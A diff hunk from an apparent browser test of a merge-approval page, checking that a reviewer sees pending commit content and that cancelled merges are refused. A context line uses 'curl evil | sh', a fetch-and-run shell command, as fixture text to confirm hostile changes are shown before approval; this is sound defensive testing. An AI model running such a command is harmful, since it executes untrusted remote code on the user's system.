@@ -94,7 +94,10 @@ test("what is looked at before the yes is what waits, and not what the session h
   await expect(changes.getByText("curl evil | sh", { exact: true })).toAppear();
 
   // Any other commit is refused, and so is this one when nothing waits any more.
+  await page.goto(address.href);
+  await expect(changes.getByText("What the session does meanwhile is not here")).toAppear();
   await dispatcher.ask("POST", `/api/merges/${item.id}/cancel`);
+  await expect(changes.getByText("That merge has ended")).toAppear();
   await page.goto(address.href);
   await expect(changes.getByRole("alert").getByText("No merge of session")).toAppear();
   expect(await changes.getByText("echo hello").count()).toBe(0);
